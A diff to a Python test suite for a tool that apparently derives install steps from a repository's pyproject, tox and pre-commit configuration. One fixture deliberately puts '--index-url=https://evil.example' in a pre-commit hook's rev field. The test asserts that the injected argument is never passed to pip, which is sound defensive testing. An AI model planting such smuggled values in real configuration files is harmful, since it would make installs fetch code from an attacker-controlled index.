@@ -128,6 +128,48 @@ def test_extras_declared_in_setup_cfg_and_named_by_tox(tmp_path: Path) -> None:
     )
 
 
+def test_the_planned_linters_and_type_checkers_are_installed_at_the_pinned_versions(
+    tmp_path: Path,
+) -> None:
+    """Nothing the plan runs is left missing: mypy (configured), ruff and pytest (named by
+    tox) are installed first, at the versions the pre-commit hooks pin, so that a version a
+    requirement file declares still wins when it is installed after them."""
+    write_dedented(
+        tmp_path,
+        {
+            "pyproject.toml": """
+                [project]
+                name = "p"
+                version = "1"
+                [tool.mypy]
+                strict = true
+            """,
+            "tox.ini": "[testenv]\ncommands = pytest\n[testenv:lint]\ncommands = ruff check src\n",
+            ".pre-commit-config.yaml": """
+                repos:
+                  - repo: https://github.com/pre-commit/mirrors-mypy
+                    rev: v1.10.0
+                    hooks: [{id: mypy}]
+                  - repo: https://github.com/astral-sh/ruff-pre-commit
+                    rev: 'v0.4.4'
+                    hooks: [{id: ruff}]
+                  - repo: https://github.com/psf/black
+                    rev: --index-url=https://evil.example
+                    hooks: [{id: black}]
+            """,
+            "requirements-dev.txt": "mypy==1.8.0\n",
+        },
+    )
+    pip = (".venv/bin/python", "-m", "pip", "install", "-q")
+    steps = install_steps(tmp_path)
+    assert [s.argv for s in steps][:3] == [
+        ("python3", "-m", "venv", ".venv"),
+        (*pip, "mypy==1.10.0", "pytest", "ruff==0.4.4"),
+        (*pip, "-r", "requirements-dev.txt"),
+    ]
+    assert steps[1].source == ".pre-commit-config.yaml"
+
+
 def test_requirements_are_never_read_through_links(tmp_path: Path) -> None:
     outside = write(tmp_path / "outside", {"secret-requirements-dev.txt": "x\n"})
     root = write(tmp_path / "repo", {"pyproject.toml": "[project]\nname='p'\n"})
@@ -204,7 +246,13 @@ def test_fresh_clone_is_installed_then_verified_with_its_own_environment(
     )
     report = json.loads(done.stdout)
     assert report["status"] == "VERIFIED", report["note"]
-    assert [step["verdict"] for step in report["extra"]["install"]] == ["pass", "pass"]
+    steps = report["extra"]["install"]
+    assert [step["name"] for step in steps] == [
+        "install-venv",
+        "install-python-tools",  # pytest, which the plan runs
+        "install-python",
+    ]
+    assert all(step["verdict"] == "pass" for step in steps)
     pytest_check = next(c for c in report["checks"] if c["name"] == "pytest")
     assert pytest_check["argv"][0] == ".venv/bin/python"  # the environment the install made
     assert not (repo / ".venv").exists(), (
